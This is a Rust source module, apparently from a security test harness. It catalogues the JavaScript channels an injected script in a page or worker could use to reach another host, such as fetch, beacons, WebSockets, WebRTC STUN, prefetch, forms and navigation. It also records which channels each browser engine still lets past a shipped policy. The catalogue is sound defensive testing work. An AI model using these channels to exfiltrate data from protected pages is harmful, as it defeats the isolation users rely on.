//! Every known way for a page to reach another machine, as an injected script would try it, and
//! what remains open in each engine.
//!
//! In each script `at` is a unique host and port, `url` an address there.

use crate::page::Origin;
use crate::sink::Ways;

/// Channels that do not navigate: all are tried at once.
pub(crate) const QUIET: &str = "\
fetch: fetch(url, { mode: 'no-cors' }).catch(ignore)
fetch-keepalive: fetch(url, { mode: 'no-cors', keepalive: true }).catch(ignore)
xhr: const r = new XMLHttpRequest(); r.open('GET', url); r.send()
beacon: navigator.sendBeacon(url, 'x')
websocket: new WebSocket(`ws://${at}/`)
eventsource: new EventSource(url)
webtransport: new WebTransport(`https://${at}/`).ready.catch(ignore)
image: new Image().src = url
script: add('script', { src: url })
style: add('link', { rel: 'stylesheet', href: url })
style-import: add('style', { textContent: `@import '${url}'` })
style-background: add('p', { textContent: 'x' }).style.backgroundImage = `url(${url})`
font: new FontFace('x', `url(${url})`).load().catch(ignore)
frame: add('iframe', { src: url })
object: add('object', { data: url })
embed: add('embed', { src: url })
video: add('video', { preload: 'auto', src: url })
audio: add('audio', { preload: 'auto', src: url })
prefetch: add('link', { rel: 'prefetch', href: url })
preload: add('link', { rel: 'preload', as: 'image', href: url })
modulepreload: add('link', { rel: 'modulepreload', href: url })
preconnect: add('link', { rel: 'preconnect', href: url })
manifest: add('link', { rel: 'manifest', href: url })
icon: add('link', { rel: 'icon', href: url })
import: import(url).catch(ignore)
worker: new Worker(url)
speculation: add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }] }) })
ping: add('a', { href: '#ping', ping: url, textContent: 'x' }).click()
form-in-frame: add('iframe', { name: 'inside' }); add('form', { action: url, target: 'inside', method: 'post' }).submit()
webrtc: const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${at}` }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)).catch(ignore)
";

/// Channels that navigate. The listener replies without content, so the page stays; of several only
/// the last one counts, so they are tried one by one.
pub(crate) const LEADING_AWAY: &str = "\
navigation: location.href = url
link: add('a', { href: url, textContent: 'x' }).click()
download: add('a', { href: url, download: 'x', textContent: 'x' }).click()
refresh: const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0; url=${url}`; document.head.append(m)
form: add('form', { action: url }).submit()
window: const w = window.open(url); setTimeout(() => w?.close(), 3000)
";

/// Channels of the worker, which holds the key.
pub(crate) const IN_WORKER: &str = "\
fetch: fetch(url, { mode: 'no-cors' }).catch(ignore)
fetch-keepalive: fetch(url, { mode: 'no-cors', keepalive: true }).catch(ignore)
xhr: const r = new XMLHttpRequest(); r.open('GET', url); r.send()
xhr-synchronous: const r = new XMLHttpRequest(); r.open('GET', url, false); r.send()
beacon: navigator.sendBeacon(url, 'x')
websocket: new WebSocket(`ws://${at}/`)
eventsource: new EventSource(url)
webtransport: new WebTransport(`https://${at}/`).ready.catch(ignore)
font: const f = new FontFace('x', `url(${url})`); self.fonts.add(f); f.load().catch(ignore)
import-scripts: importScripts(url)
import: import(url).catch(ignore)
worker: new Worker(url)
streamed-wasm: WebAssembly.compileStreaming(fetch(url, { mode: 'no-cors' })).catch(ignore)
cache: caches.open('x').then((cache) => cache.add(url)).catch(ignore)
inner-worker: new Worker(URL.createObjectURL(new Blob([`fetch('${url}', { mode: 'no-cors' }).catch(() => {})`])))
webrtc: new RTCPeerConnection({ iceServers: [{ urls: `stun:${at}` }] }).createDataChannel('x')
navigation: location.href = url
window: clients.openWindow(url)
";

/// Where a channel starts.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Realm {
    Page,
    Worker,
}

/// Channels that an engine lacks or does not use in such a page, even without a policy: engine, realm,
/// `any` or one origin, and the channels. Worker scripts must be same-origin; manifests are fetched on
/// installation; the page's icon is inline. WebTransport, caches and others need a secure context.
const NEVER: &str = "\
firefox page any: manifest ping speculation worker
firefox page file: prefetch
firefox page http: webtransport
firefox worker any: beacon navigation webrtc window worker
firefox worker http: cache webtransport
chromium page any: icon manifest worker
chromium page http: webtransport
chromium worker any: beacon navigation webrtc window worker
chromium worker http: cache webtransport
webkit page any: icon manifest prefetch speculation webrtc webtransport worker
webkit worker any: beacon font navigation webrtc webtransport window worker
webkit worker file: inner-worker
webkit worker http: cache
";

/// What still reaches the listener under the shipped policy, as SECURITY.md says: a page can always
/// navigate, and no policy covers WebRTC. `connection` is a connection without a request: engines
/// preconnect without asking the policy, and Chromium connects to the target of a frame or form
/// before it asks. Nothing comes from the worker.
const REMAINS: &str = "\
firefox page any: preconnect:connection download link navigation refresh webrtc window
chromium page any: form:connection form-in-frame:connection frame:connection preconnect:connection
chromium page any: download link navigation refresh webrtc window
webkit page any: preconnect:connection download link navigation refresh window
";

/// Engines that obey the header [`ALLOWLIST`]: nothing reaches the listener.
const OBEDIENT: &[&str] = &["chromium"];

/// The header of a hosted copy that lets it connect to nothing.
pub(crate) const ALLOWLIST: &str = "Connection-Allowlist";

/// Returns exactly what must arrive from a hosted copy.
pub(crate) fn heard_when_hosted(engine: &str, realm: Realm) -> Ways {
    if OBEDIENT.contains(&engine) {
        return Ways::new();
    }
    heard_under_policy(engine, realm, Origin::Loopback)
}

/// Returns the channels of a realm.
pub(crate) fn all(realm: Realm) -> Vec<&'static str> {
    match realm {
        Realm::Page => [names(QUIET), names(LEADING_AWAY)].concat(),
        Realm::Worker => names(IN_WORKER),
    }
}

/// Returns what must arrive without a policy.
pub(crate) fn heard_without_policy(engine: &str, realm: Realm, origin: Origin) -> Ways {
    let mut ways: Ways = all(realm).into_iter().map(str::to_owned).collect();
    for name in listed(NEVER, engine, realm, origin) {
        ways.remove(&name);
    }
    // No request is what it is.
    if ways.remove("preconnect") {
        ways.insert("preconnect:connection".into());
    }
    ways
}

/// Returns exactly what must arrive under the shipped policy.
pub(crate) fn heard_under_policy(engine: &str, realm: Realm, origin: Origin) -> Ways {
    listed(REMAINS, engine, realm, origin)
}

fn listed(rows: &str, engine: &str, realm: Realm, origin: Origin) -> Ways {
    let realm = match realm {
        Realm::Page => "page",
        Realm::Worker => "worker",
    };
    let origin = match origin {
        Origin::File => "file",
        Origin::Http => "http",
        Origin::Loopback => "loopback",
    };
    let heads = ["any", origin].map(|origin| format!("{engine} {realm} {origin}: "));
    let here = rows
        .lines()
        .filter_map(|row| heads.iter().find_map(|head| row.strip_prefix(head)));
    here.flat_map(str::split_whitespace)
        .map(str::to_owned)
        .collect()
}

/// Returns name and script of the channels of a table.
pub(crate) fn ways(table: &'static str) -> impl Iterator<Item = (&'static str, &'static str)> {
    table.lines().filter_map(|line| line.split_once(": "))
}

/// Returns the names of channels.
pub(crate) fn names(table: &'static str) -> Vec<&'static str> {
    ways(table).map(|(name, _)| name).collect()
}
